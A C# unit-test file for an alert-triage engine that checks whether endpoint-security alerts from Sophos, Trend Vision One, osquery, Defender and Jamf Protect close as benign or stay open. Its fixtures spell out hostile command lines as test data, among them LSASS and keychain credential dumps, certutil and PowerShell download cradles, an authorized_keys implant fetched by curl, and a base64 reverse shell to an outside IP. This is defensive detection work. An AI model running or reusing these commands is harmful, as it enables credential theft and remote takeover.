using System.Text.Json;
using Verdict.Analysis;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Endpoint products read by their documented fields (Sophos Central XDR detections and SIEM events, Trend Vision One
/// workbench alerts, osquery result rows, Defender DeviceProcessEvents rows, Jamf Protect alerts), and the reasons they let close: each benign
/// case closes, the attack shaped like it does not.
/// </summary>
public sealed class EndpointProductTests
{
    private static Assessment Assess(object input) =>
        FamilyFixtures.Triage([new FamilyFixture("e0", JsonSerializer.Serialize(input), true, "")])[0].Assessment!;

    private static object SophosXdr(string rule, string user, string commandLine, string path, string parentPath, string parentCommandLine, int severity = 4) => new
    {
        id = "4108e360-ddfc-fc69-e290-d9f945ffa4d1", time = "2026-11-18T09:14:27.902Z", severity, type = "Process",
        detectionRule = rule, detectionDescription = rule, device = new { id = "d1", type = "computer", entity = "GX-SRV-APP07" },
        rawData = new { meta_hostname = "GX-SRV-APP07", username = $@"GLOBEX\{user}", path, cmd_line = commandLine, parent_path = parentPath, parent_cmd_line = parentCommandLine, is_process_signed = true },
    };

    private static Dictionary<string, object?> SophosEvent(string name, string type, string user, string group, string? path = null) => new Dictionary<string, object?>
    {
        ["id"] = "bc0dbc0e-1563-7ebb-8e3b-91d26ab4a829", ["severity"] = "medium", ["name"] = name, ["type"] = type,
        ["created_at"] = "2026-11-17T10:22:41.118Z", ["endpoint_type"] = "computer", ["endpoint_id"] = "a9", ["source"] = $@"GLOBEX\{user}",
        ["location"] = "GX-WS-0042", ["source_info"] = new { ip = "10.20.1.21" }, ["group"] = group, ["path"] = path,
    }.Where(p => p.Value is not null).ToDictionary();

    private static object Trend(string model, string account, string severity, params (string Field, string Value)[] indicators) => new
    {
        schemaVersion = "1.14", id = "WB-1-20261121-1", status = "Open", investigationResult = "No Findings", model, severity, score = 40,
        createdDateTime = "2026-11-21T03:12:40Z", description = model, workbenchLink = "https://portal.xdr.trendmicro.com/#/workbench/alerts/WB-1",
        impactScope = new
        {
            desktopCount = 0, serverCount = 1, accountCount = 1, emailAddressCount = 0, containerCount = 0, cloudIdentityCount = 0,
            entities = new object[]
            {
                new { entityType = "host", entityValue = new { guid = "g1", name = "GX-SRV-PRINT01", ips = new[] { "10.10.23.5" } } },
                new { entityType = "account", entityValue = $@"GLOBEX\{account}" },
            },
        },
        indicators = indicators.Select((x, i) => new { id = i + 1, type = "command_line", field = x.Field, value = x.Value }).ToArray(),
    };

    private static object Osquery(string name, string host, Dictionary<string, string> columns, long unixTime = 1795143600) => new
    {
        name, hostIdentifier = host, calendarTime = "Thu Nov 19 01:00:00 2026 UTC", unixTime, epoch = 0, counter = 3,
        decorations = new { host_uuid = "14186D1A", hostname = host }, columns, action = "added",
    };

    private static object Defender(string user, string file, string commandLine, string parent, string parentCommandLine, string time = "2026-11-18T15:30:12Z", string grandparent = "explorer.exe") => new
    {
        Timestamp = time, DeviceId = "b1a8", DeviceName = "gx-ws-0177.globex.com", ActionType = "ProcessCreated", FileName = file,
        FolderPath = $@"c:\windows\system32\{file}", ProcessCommandLine = commandLine, AccountDomain = "globex", AccountName = user,
        InitiatingProcessFileName = parent, InitiatingProcessFolderPath = $@"c:\windows\system32\{parent}", InitiatingProcessCommandLine = parentCommandLine,
        InitiatingProcessParentFileName = grandparent,
    };

    private static object JamfProtect(string fact, string user, string path, string[] args, string parentPath, int severity = 1) => new
    {
        caid = "c1", certid = "c2",
        input = new
        {
            eventType = "GPProcessEvent",
            host = new { hostname = "GX-MBP-0112", ips = new[] { "10.30.4.112" }, os = "Version 15.1 (Build 24B83)", protectVersion = "6.3.0.7", serial = "C0200000001" },
            match = new
            {
                uuid = "m1",
                @event = new { type = 1, timestamp = 1795044611L, uuid = "e1", pid = 812, process = new { path, args, uid = 501, user, ppid = 400, parentPath } },
                facts = new[] { new { name = fact, human = fact + " matched", severity, tags = new[] { "MitreAttack" }, uuid = "f1" } },
                severity,
            },
            related = new { users = new[] { new { name = user, uid = 501 } } },
        },
    };

    [Fact]
    public void Jamf_Protect_alerts_are_read_from_input_match_so_a_jamf_deployed_quarantine_removal_closes_and_keychain_dumps_stay_open()
    {
        var deployed = Assess(JamfProtect("GatekeeperQuarantineRemoved", "root", "/usr/bin/xattr",
            ["xattr", "-dr", "com.apple.quarantine", "/Library/Application Support/Vendor/plugin.bundle"], "/usr/local/jamf/bin/jamf"));
        Assert.Equal(Classification.Benign, deployed.Classification);
        Assert.Contains(deployed.Evidence, e => e.Key == "deployment_tool");

        var dump = Assess(JamfProtect("SuspiciousKeychainAccess", "j.doe", "/usr/bin/security",
            ["security", "dump-keychain", "-d", "/Users/jdoe/Library/Keychains/login.keychain-db"], "/Users/jdoe/Library/Application Support/.helper/helper", 2));
        Assert.NotEqual(Classification.Benign, dump.Classification);
        Assert.Contains(dump.Evidence, e => e.Key == "credential_dumping");

        // An attack wearing the deployment agent's clothes: the management agent's child dumps the keychain.
        var viaAgent = Assess(JamfProtect("SuspiciousKeychainAccess", "root", "/usr/bin/security",
            ["security", "dump-keychain", "-d", "/Users/jdoe/Library/Keychains/login.keychain-db"], "/usr/local/jamf/bin/jamf", 2));
        Assert.NotEqual(Classification.Benign, viaAgent.Classification);
    }

    [Fact]
    public void A_Sophos_XDR_detection_is_read_from_rawData_so_an_lsass_dump_through_wmi_by_an_admin_stays_open_and_a_deployment_agent_script_closes()
    {
        var dump = Assess(SophosXdr("WIN-CRED-PRC-COMSVCS-MINIDUMP-1", "it.admin", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\Windows\Temp\diag.dmp full",
            @"C:\Windows\System32\rundll32.exe", @"C:\Windows\System32\wbem\WmiPrvSE.exe", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", 10));
        Assert.NotEqual(Classification.Benign, dump.Classification);
        Assert.Contains(dump.Evidence, e => e.Key == "credential_dumping");

        var deployed = Assess(SophosXdr("WIN-EXE-PRC-MSIEXEC-QUIET-1", "SYSTEM", @"msiexec.exe /i ""C:\Windows\ccmcache\4f\Client.msi"" /qn", @"C:\Windows\System32\msiexec.exe",
            @"C:\Windows\CCM\CcmExec.exe", @"C:\Windows\CCM\CcmExec.exe"));
        Assert.Equal(Classification.Benign, deployed.Classification);
        Assert.Contains(deployed.Evidence, e => e.Key == "deployment_tool");
    }

    [Fact]
    public void Sophos_events_name_user_and_computer_an_application_control_block_closes_a_detected_remote_tool_from_downloads_does_not()
    {
        var blocked = Assess(SophosEvent("Controlled application blocked: Tor Browser", "Event::Endpoint::Application::Blocked", "s.student", "APPLICATION_CONTROL"));
        Assert.Equal(Classification.Benign, blocked.Classification);
        Assert.Contains(blocked.Evidence, e => e.Key == "application_blocked");

        var detected = Assess(SophosEvent("Controlled application detected: AnyDesk", "Event::Endpoint::Application::Detected", "k.secretary", "APPLICATION_CONTROL", @"C:\Users\k.secretary\Downloads\AnyDesk.exe"));
        Assert.NotEqual(Classification.Benign, detected.Classification);
        Assert.Contains(detected.Evidence, e => e.Key == "remote_access_tool");
    }

    [Fact]
    public void A_PUA_detection_of_PsExec_closes_for_a_listed_admin_in_business_hours_but_not_for_an_ordinary_user()
    {
        const string name = @"PUA detected: 'PsExec' at 'C:\Tools\Sysinternals\PsExec64.exe'";
        var admin = Assess(SophosEvent(name, "Event::Endpoint::CorePuaDetection", "it.admin", "PUA"));
        Assert.Equal(Classification.Benign, admin.Classification);
        Assert.Contains(admin.Evidence, e => e.Key == "admin_tool_by_admin");
        Assert.Contains(admin.Evidence, e => e.Key == "pua_class");

        var user = Assess(SophosEvent(name, "Event::Endpoint::CorePuaDetection", "j.user", "PUA"));
        Assert.NotEqual(Classification.Benign, user.Classification);
    }

    [Fact]
    public void The_EICAR_test_file_named_with_the_path_it_lay_at_closes_but_not_beside_another_name_or_at_a_path_named_otherwise()
    {
        var test = Assess(SophosEvent(@"Malware detected: 'EICAR-AV-Test' at 'C:\Users\j.user\Downloads\eicar_com.zip'", "Event::Endpoint::CoreDetection", "j.user", "MALWARE"));
        Assert.Equal(Classification.Benign, test.Classification);
        Assert.Contains(test.Evidence, e => e.Key == "av_test_file");

        var beside = Assess(SophosEvent(@"Malware detected: 'EICAR-AV-Test' and 'Troj/Agent-BXY' at 'C:\Users\j.user\Downloads\pack.zip'", "Event::Endpoint::CoreDetection", "j.user", "MALWARE"));
        Assert.DoesNotContain(beside.Evidence, e => e.Key == "av_test_file");
        Assert.NotEqual(Classification.Benign, beside.Classification);

        var tool = Assess(SophosEvent(@"Malware detected: 'EICAR-AV-Test' at 'C:\Users\j.user\Downloads\mimikatz_trunk.zip'", "Event::Endpoint::CoreDetection", "j.user", "MALWARE"));
        Assert.DoesNotContain(tool.Evidence, e => e.Key == "av_test_file");
        Assert.NotEqual(Classification.Benign, tool.Classification);
    }

    [Fact]
    public void A_Sophos_alert_naming_its_file_in_the_description_is_read_like_an_event_naming_it_in_its_name()
    {
        // Sophos Central's alerts API gives the text as "description" (the SIEM event API as "name").
        Dictionary<string, object?> AlertApi(string user)
        {
            var record = SophosEvent("", "Event::Endpoint::CorePuaDetection", user, "PUA");
            record.Remove("name");
            record["description"] = @"PUA detected: 'PsExec' at 'C:\Tools\PSTools\PsExec.exe'";
            return record;
        }
        var admin = Assess(AlertApi("it.admin"));
        Assert.Equal(Classification.Benign, admin.Classification);
        Assert.Contains(admin.Evidence, e => e.Key == "admin_tool_by_admin");

        var user = Assess(AlertApi("j.user"));
        Assert.NotEqual(Classification.Benign, user.Classification);
        Assert.DoesNotContain(user.Evidence, e => e.Key == "admin_tool_by_admin");
    }

    [Fact]
    public void Trend_Vision_One_indicators_are_read_an_admin_restarting_a_service_with_psexec_in_the_window_closes_an_impacket_shell_does_not()
    {
        var psexec = Assess(Trend("Remote Service Creation", "it.admin", "medium", ("processCmd", @"C:\Windows\PSEXESVC.exe"), ("objectCmd", @"""cmd"" /c net stop spooler && net start spooler"), ("srcIp", "10.20.1.21")));
        Assert.Equal(Classification.Benign, psexec.Classification);
        Assert.Contains(psexec.Evidence, e => e.Key == "admin_tool_by_admin");

        var impacket = Assess(Trend("Remote Service Creation", "svc-backup", "high",
            ("objectCmd", @"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat"), ("srcIp", "10.45.14.107")));
        Assert.NotEqual(Classification.Benign, impacket.Classification);
        Assert.Contains(impacket.Evidence, e => e.Key == "impacket_exec" && e.Strong);

        // Output to ADMIN$\__<timestamp> over WMI is also how credentialed scanners run their checks: not named Impacket.
        var scan = Assess(Trend("Possible Lateral Movement via WMI", "svc-backup", "low",
            ("processCmd", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"), ("objectCmd", @"cmd.exe /Q /c reg query ""HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"" /v CurrentBuild 1> \\127.0.0.1\ADMIN$\__1731807005.44 2>&1"), ("srcIp", "10.50.0.10")));
        Assert.DoesNotContain(scan.Evidence, e => e.Key == "impacket_exec");
        Assert.Equal(Classification.Benign, scan.Classification);
    }

    [Fact]
    public void Osquery_rows_a_package_owned_setuid_file_closes_a_setuid_shell_in_a_hidden_tmp_folder_does_not()
    {
        var packaged = Assess(Osquery("pack/Global/detect_new_setuid_binary", "hpc-cn041", new() { ["path"] = "/usr/bin/fusermount3", ["mode"] = "4755", ["package"] = "fuse3-3.14.0-5.el9" }));
        Assert.Equal(Classification.Benign, packaged.Classification);
        Assert.Contains(packaged.Evidence, e => e.Key == "package_owned");

        var dropped = Assess(Osquery("pack/Global/detect_setuid_in_tmp", "web01", new() { ["path"] = "/tmp/.font-unix/.x/bash", ["mode"] = "4755" }));
        Assert.NotEqual(Classification.Benign, dropped.Classification);
        Assert.DoesNotContain(dropped.Evidence, e => e.Key == "package_owned");
    }

    [Fact]
    public void Osquery_rows_a_key_pushed_by_a_listed_service_account_closes_a_kali_key_does_not_and_a_loopback_listener_closes()
    {
        var pushed = Assess(Osquery("pack/Global/detect_authorized_keys_change", "login02", new() { ["key_file"] = "/root/.ssh/authorized_keys", ["comment"] = "it.admin@paw", ["changed_by"] = "svc-backup (job 88412)" }));
        Assert.Equal(Classification.Benign, pushed.Classification);
        Assert.Contains(pushed.Evidence, e => e.Key == "managed_change");

        var kali = Assess(Osquery("pack/Global/detect_authorized_keys_change", "gitlab01", new() { ["key_file"] = "/root/.ssh/authorized_keys", ["comment"] = "root@kali", ["changed_by"] = "root" }));
        Assert.NotEqual(Classification.Benign, kali.Classification);
        Assert.Contains(kali.Evidence, e => e.Key == "attack_distro_key");

        var loopback = Assess(Osquery("pack/Global/detect_new_listening_port", "login01", new() { ["port"] = "8888", ["address"] = "127.0.0.1", ["cmdline"] = "python -m jupyter lab --no-browser --port=8888", ["username"] = "s.student" }));
        Assert.Equal(Classification.Benign, loopback.Classification);
        var miner = Assess(Osquery("pack/Global/detect_process_deleted_binary", "gpu07", new() { ["name"] = "[kworker/u16:2]", ["path"] = "/dev/shm/.k/kw (deleted)", ["cmdline"] = "[kworker/u16:2] -o 5.42.92.16:443", ["on_disk"] = "0" }));
        Assert.NotEqual(Classification.Benign, miner.Classification);
        Assert.Contains(miner.Evidence, e => e.Key == "fileless_process");
    }

    [Fact]
    public void Certutil_hashing_a_file_closes_but_certutil_fetching_one_does_not()
    {
        var hash = Assess(Defender("j.dev", "certutil.exe", @"certutil.exe -hashfile C:\Users\j.dev\Downloads\ubuntu.iso SHA256", "cmd.exe", "cmd.exe"));
        Assert.Equal(Classification.Benign, hash.Classification);
        Assert.Contains(hash.Evidence, e => e.Key == "certutil_harmless");

        var fetch = Assess(Defender("j.dev", "certutil.exe", @"certutil.exe -urlcache -split -f http://91.215.85.14/t.exe C:\Users\Public\t.exe", "cmd.exe", "cmd.exe"));
        Assert.NotEqual(Classification.Benign, fetch.Classification);
        Assert.DoesNotContain(fetch.Evidence, e => e.Key == "certutil_harmless");
    }

    [Fact]
    public void ProcDump_of_a_named_worker_process_closes_but_of_lsass_does_not()
    {
        var worker = Assess(Defender("j.dev", "procdump64.exe", @"procdump64.exe -ma w3wp.exe D:\dumps\w3wp_leak.dmp -accepteula", "cmd.exe", "cmd.exe"));
        Assert.Equal(Classification.Benign, worker.Classification);
        Assert.Contains(worker.Evidence, e => e.Key == "dump_not_lsass");

        var lsass = Assess(Defender("j.dev", "procdump64.exe", @"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp", "cmd.exe", "cmd.exe"));
        Assert.NotEqual(Classification.Benign, lsass.Classification);
        Assert.DoesNotContain(lsass.Evidence, e => e.Key == "dump_not_lsass");
    }

    [Fact]
    public void A_hidden_cradle_from_a_bare_internal_address_started_through_wmi_stays_open_even_for_an_admin_in_the_maintenance_window()
    {
        var cradle = Assess(Defender("it.admin", "powershell.exe", @"powershell.exe -nop -w hidden -c ""IEX(New-Object Net.WebClient).DownloadString('http://10.40.77.12:8080/a')""",
            "wmiprvse.exe", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", "2026-11-21T03:05:33Z"));
        Assert.NotEqual(Classification.Benign, cradle.Classification);
        Assert.DoesNotContain(cradle.Evidence, e => e.Key == "internal_fetch");
        Assert.Contains(cradle.Evidence, e => e.Key == "wmi_execution");
        Assert.Contains(cradle.Evidence, e => e.Key == "admin_tool_by_admin" && e.Weight < 1.0);
    }

    [Fact]
    public void A_Windows_control_panel_item_through_rundll32_closes_but_a_control_panel_file_from_appdata_does_not()
    {
        var display = Assess(Defender("j.user", "rundll32.exe", @"""C:\Windows\system32\rundll32.exe"" C:\Windows\system32\shell32.dll,Control_RunDLL desk.cpl,,0", "explorer.exe", @"C:\Windows\Explorer.EXE"));
        Assert.DoesNotContain(display.Evidence, e => e.Key == "lolbin");
        Assert.Equal(Classification.Benign, display.Classification);

        var dropped = Assess(Defender("j.user", "rundll32.exe", @"rundll32.exe shell32.dll,Control_RunDLL C:\Users\j.user\AppData\Roaming\upd.cpl", "explorer.exe", @"C:\Windows\Explorer.EXE"));
        Assert.Contains(dropped.Evidence, e => e.Key == "lolbin");
        Assert.NotEqual(Classification.Benign, dropped.Classification);
    }

    [Fact]
    public void An_osascript_password_dialog_is_an_infostealer_sign()
    {
        var prompt = Assess(Trend("Suspicious osascript Password Prompt", "n.staff", "high",
            ("processCmd", @"osascript -e 'display dialog ""macOS needs to access System settings. Please enter password."" default answer """" with hidden answer'")));
        Assert.NotEqual(Classification.Benign, prompt.Classification);
        Assert.Contains(prompt.Evidence, e => e.Key == "password_prompt");
    }

    [Fact]
    public void A_task_created_by_a_shell_the_deployment_agent_started_closes_but_the_same_task_from_a_shell_the_user_started_does_not()
    {
        const string task = @"schtasks.exe /Create /TN ""Globex\KFM check"" /TR ""powershell.exe -NoProfile -WindowStyle Hidden -File C:\ProgramData\Globex\kfm-check.ps1"" /SC ONLOGON /RU SYSTEM /F";
        var agent = Assess(Defender("system", "schtasks.exe", task, "powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File kfm-setup.ps1", grandparent: "agentexecutor.exe"));
        Assert.Equal(Classification.Benign, agent.Classification);
        Assert.Contains(agent.Evidence, e => e.Key == "deployment_tool");

        var user = Assess(Defender("j.user", "schtasks.exe", task, "powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File kfm-setup.ps1"));
        Assert.NotEqual(Classification.Benign, user.Classification);
        Assert.DoesNotContain(user.Evidence, e => e.Key == "deployment_tool");
    }

    /// <summary>A Jamf Protect alert whose process names its parent and user only by ppid and uid, as <c>input.related</c> lists them.</summary>
    private static object JamfRelatedOnly(string fact, string path, string[] args, int uid, (string Name, int Uid)[] users, (string Path, int Pid)[] processes) => new
    {
        caid = "c1", certid = "c2",
        input = new
        {
            eventType = "GPProcessEvent",
            host = new { hostname = "GX-MBP-0140", ips = new[] { "10.30.4.140" }, os = "Version 15.1 (Build 24B83)", protectVersion = "6.3.0.7", serial = "C0200000002" },
            match = new
            {
                uuid = "m2", severity = 1, tags = new[] { "Persistence" }, actions = new[] { new { name = "Report" } },
                @event = new { type = 1, timestamp = 1795044611L, uuid = "e2", process = new { path, pid = 7001, ppid = 7000, uid, args } },
                facts = new[] { new { name = fact, human = fact + " matched", severity = "Medium", tags = new[] { "Persistence" }, uuid = "f2" } },
            },
            related = new
            {
                users = users.Select(u => new { name = u.Name, uid = u.Uid }).ToArray(),
                processes = processes.Select(p => new { path = p.Path, pid = p.Pid, name = p.Path[(p.Path.LastIndexOf('/') + 1)..] }).ToArray(),
            },
        },
    };

    [Fact]
    public void Jamf_Protect_parent_and_user_come_from_input_related_by_ppid_and_uid_so_a_jamf_policy_closes_and_a_shell_parent_does_not()
    {
        string[] screenSharing = ["launchctl", "enable", "system/com.apple.screensharing"];
        var policy = Assess(JamfRelatedOnly("ScreenSharingEnabled", "/bin/launchctl", screenSharing, 0,
            [("j.doe", 501), ("root", 0)], [("/bin/zsh", 6999), ("/usr/local/jamf/bin/jamf", 7000)]));
        Assert.Equal(Classification.Benign, policy.Classification);
        Assert.Contains(policy.Evidence, e => e.Key == "deployment_tool");

        // The same change from a user's shell, with the management agent merely running elsewhere on the Mac (another pid).
        var byHand = Assess(JamfRelatedOnly("ScreenSharingEnabled", "/bin/launchctl", screenSharing, 0,
            [("j.doe", 501), ("root", 0)], [("/usr/local/jamf/bin/jamf", 6999), ("/bin/zsh", 7000)]));
        Assert.NotEqual(Classification.Benign, byHand.Classification);
        Assert.DoesNotContain(byHand.Evidence, e => e.Key == "deployment_tool");

        // An attack under the agent: a key written to authorized_keys from a user-writable folder and fetched from the internet.
        var implant = Assess(JamfRelatedOnly("SSHAuthorizedKeysModified", "/bin/sh",
            ["sh", "-c", "curl -s http://91.215.85.14/k >> /var/root/.ssh/authorized_keys"], 0, [("root", 0)], [("/usr/local/jamf/bin/jamf", 7000)]));
        Assert.NotEqual(Classification.Benign, implant.Classification);
    }

    private static Assessment AssessAlert(string rule, string user, string commandLine, string? parent = null) =>
        Assess(new Dictionary<string, object?>
        {
            ["AlertName"] = rule, ["AlertSeverity"] = "Low", ["TimeGenerated"] = "2026-11-18T10:44:21Z", ["HostName"] = "gx-ws-0311",
            ["UserName"] = user, ["CommandLine"] = commandLine, ["ParentProcess"] = parent,
        }.Where(p => p.Value is not null).ToDictionary());

    [Fact]
    public void An_intune_script_is_the_deployment_agents_package_by_its_agent_or_its_staging_folder_and_a_lookalike_elsewhere_stays_open()
    {
        var byAgent = AssessAlert("SuspiciousPowerShellEncodedCommand", "SYSTEM",
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand UwBlAHQALQBQAHIAaQBuAHQAZQByAEQAZQBmAGEAdQBsAHQALgBwAHMAMQA=",
            @"C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe");
        Assert.Equal(Classification.Benign, byAgent.Classification);
        Assert.Contains(byAgent.Evidence, e => e.Key == "deployment_tool");

        var health = AssessAlert("Suspicious PowerShell command line", "SYSTEM",
            @"powershell.exe -NoProfile -ExecutionPolicy Bypass -File ""C:\Windows\IMECache\HealthScripts\9a0c_2\remediate.ps1""");
        Assert.Equal(Classification.Benign, health.Classification);
        Assert.Contains(health.Evidence, e => e.Key == "deployment_tool");

        // Lookalikes: the same script name from a user-writable folder, and a download run before the staged script.
        var elsewhere = AssessAlert("Suspicious PowerShell command line", "j.doe",
            @"powershell.exe -NoProfile -ExecutionPolicy Bypass -File ""C:\Users\Public\IMECache\HealthScripts\9a0c_2\remediate.ps1""");
        Assert.DoesNotContain(elsewhere.Evidence, e => e.Key == "deployment_tool");
        var cradle = AssessAlert("Suspicious PowerShell command line", "SYSTEM",
            @"powershell.exe -c ""iex (iwr http://91.215.85.14/a.ps1)"" -File ""C:\Windows\IMECache\HealthScripts\9a0c_2\remediate.ps1""");
        Assert.DoesNotContain(cradle.Evidence, e => e.Key == "deployment_tool");
        Assert.NotEqual(Classification.Benign, cradle.Classification);
    }

    [Fact]
    public void Cloud_init_running_user_data_is_provisioning_and_a_reverse_shell_in_the_user_data_stays_open()
    {
        var ecs = (string commandLine) => Assess(new Dictionary<string, object?>
        {
            ["@timestamp"] = "2026-11-18T07:30:02Z", ["kibana.alert.rule.name"] = "Base64 Decoded Payload Piped to Interpreter", ["kibana.alert.severity"] = "medium",
            ["host"] = new { name = "ip-10-2-8-40" }, ["user"] = new { name = "root" },
            ["process"] = new { name = "sh", executable = "/bin/sh", command_line = commandLine,
                parent = new { name = "cloud-init", executable = "/usr/bin/cloud-init", command_line = "/usr/bin/python3 /usr/bin/cloud-init modules --mode=final" } },
        });
        // "#!/bin/bash\nyum -y update"
        var userData = ecs("sh -c echo IyEvYmluL2Jhc2gKeXVtIC15IHVwZGF0ZQ== | base64 -d | bash");
        Assert.Equal(Classification.Benign, userData.Classification);
        Assert.Contains(userData.Evidence, e => e.Key == "deployment_tool");

        // "bash -i >& /dev/tcp/91.215.85.14/443 0>&1"
        var shell = ecs("sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC85MS4yMTUuODUuMTQvNDQzIDA+JjE= | base64 -d | bash");
        Assert.NotEqual(Classification.Benign, shell.Classification);
    }

    [Fact]
    public void A_task_service_or_run_key_starting_a_program_in_its_product_folder_closes_but_one_dropped_elsewhere_or_named_a_threat_stays_open()
    {
        var task = AssessAlert("Suspicious scheduled task", "k.ito",
            @"schtasks.exe /Create /F /TN ""VendorLauncher\SelfUpdate"" /TR ""C:\Program Files (x86)\Vendor\Launcher\launcher.exe -silentupdate"" /SC DAILY");
        Assert.Equal(Classification.Benign, task.Classification);
        Assert.Contains(task.Evidence, e => e.Key == "installed_program_persistence" && e.Supports == Leaning.Benign);
        var runKey = AssessAlert("Anomaly detected in ASEP registry", "k.ito",
            @"reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v LicenceHelper /t REG_SZ /d ""C:\Program Files\Vendor\LicenceHelper.exe"" /f");
        Assert.Equal(Classification.Benign, runKey.Classification);
        Assert.Contains(runKey.Evidence, e => e.Key == "installed_program_persistence");

        // A binary dropped in Program Files itself, not in a product's folder; a Run key into AppData; a rule that names a threat.
        var dropped = AssessAlert("Suspicious scheduled task", "k.ito",
            @"schtasks.exe /Create /F /TN ""MicrosoftEdgeUpdateTaskCore"" /TR ""C:\Program Files\msedgeupd.exe"" /SC HOURLY");
        var appData = AssessAlert("Anomaly detected in ASEP registry", "k.ito",
            @"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveUpdate /t REG_SZ /d ""C:\Users\k.ito\AppData\Roaming\OneDriveUpdate.exe"" /f");
        var named = AssessAlert("Backdoor persistence through a scheduled task", "k.ito",
            @"schtasks.exe /Create /F /TN ""VendorLauncher\SelfUpdate"" /TR ""C:\Program Files (x86)\Vendor\Launcher\launcher.exe -silentupdate"" /SC DAILY");
        foreach (var attack in new[] { dropped, appData, named })
        {
            Assert.NotEqual(Classification.Benign, attack.Classification);
            Assert.DoesNotContain(attack.Evidence, e => e.Key == "installed_program_persistence");
        }
    }

    [Fact]
    public void A_service_whose_program_under_program_files_has_no_exe_extension_is_an_installed_program_but_a_driver_there_is_not()
    {
        static double Persistence(Assessment a) => a.Evidence.Single(e => e.Key == "persistence").Weight;
        var installed = AssessAlert("Suspicious service registration", "j.dev",
            @"sc.exe create com.vendor.backend binPath= ""C:\Program Files\Vendor\App\com.vendor.backend"" start= auto");
        Assert.True(Persistence(installed) <= 0.6);

        var driver = AssessAlert("Suspicious service registration", "j.dev",
            @"sc.exe create vdrv type= kernel binPath= ""C:\Program Files\Vendor\App\vdrv.sys"" start= auto");
        Assert.True(Persistence(driver) > 0.6);
        var library = AssessAlert("Suspicious service registration", "j.dev",
            @"sc.exe create vsvc binPath= ""C:\Program Files\Vendor\App\payload.dll"" start= auto");
        Assert.True(Persistence(library) > 0.6);
        Assert.NotEqual(Classification.Benign, driver.Classification);
    }

    /// <summary>A Sophos SIEM event as some forwarders order it: the event class <c>type</c> first, user and computer as <c>suser</c>/<c>dhost</c>.</summary>
    private static Dictionary<string, object?> SophosCef(string type, string name, string user, string group) => new()
    {
        ["id"] = "6b54780b-e50a-4892-bbd7-e4a44f5ec4ca", ["created_at"] = "2026-11-17T02:05:15.961Z", ["type"] = type, ["group"] = group,
        ["severity"] = "medium", ["name"] = name, ["description"] = name, ["endpoint_type"] = "computer", ["endpoint_id"] = "a9",
        ["source_info"] = new { ip = "10.20.1.21" }, ["dhost"] = "GX-WS-0042", ["suser"] = $@"GLOBEX\{user}",
    };

    [Fact]
    public void A_Sophos_event_is_read_by_its_name_whatever_the_key_order_and_by_suser_and_dhost()
    {
        var test = Assess(SophosCef("Event::Endpoint::Threat::Detected", @"Malware detected: 'EICAR-AV-Test' at 'C:\Users\j.user\Downloads\eicar_com.zip'", "j.user", "MALWARE"));
        Assert.Equal(Classification.Benign, test.Classification);
        Assert.Contains(test.Evidence, e => e.Key == "av_test_file");

        var beside = Assess(SophosCef("Event::Endpoint::Threat::Detected", @"Malware detected: 'EICAR-AV-Test' and 'Troj/Agent-BXY' at 'C:\Users\j.user\Downloads\pack.zip'", "j.user", "MALWARE"));
        Assert.DoesNotContain(beside.Evidence, e => e.Key == "av_test_file");
        Assert.NotEqual(Classification.Benign, beside.Classification);

        var admin = Assess(SophosCef("Event::Endpoint::CorePuaDetection", @"PUA detected: 'PsExec' at 'C:\Tools\PSTools\PsExec.exe'", "it.admin", "PUA"));
        Assert.Contains(admin.Evidence, e => e.Key == "admin_tool_by_admin");
        var user = Assess(SophosCef("Event::Endpoint::CorePuaDetection", @"PUA detected: 'PsExec' at 'C:\Tools\PSTools\PsExec.exe'", "j.user", "PUA"));
        Assert.DoesNotContain(user.Evidence, e => e.Key == "admin_tool_by_admin");
        Assert.NotEqual(Classification.Benign, user.Classification);
    }

    [Fact]
    public void A_peripheral_the_device_control_blocked_closes_but_not_when_the_product_names_a_threat_on_it()
    {
        var blocked = Assess(SophosCef("Event::Endpoint::Device::Blocked", "Peripheral blocked: Removable storage 'SanDisk Extreme PRO'", "j.user", "PERIPHERALS"));
        Assert.Equal(Classification.Benign, blocked.Classification);
        Assert.Contains(blocked.Evidence, e => e.Key == "device_blocked");

        var infected = Assess(SophosCef("Event::Endpoint::Threat::Detected", "Malware detected on removable storage 'SanDisk Extreme PRO': 'Troj/Agent-BXY', USB device blocked", "j.user", "MALWARE"));
        Assert.DoesNotContain(infected.Evidence, e => e.Key == "device_blocked");
        Assert.NotEqual(Classification.Benign, infected.Classification);
    }
}
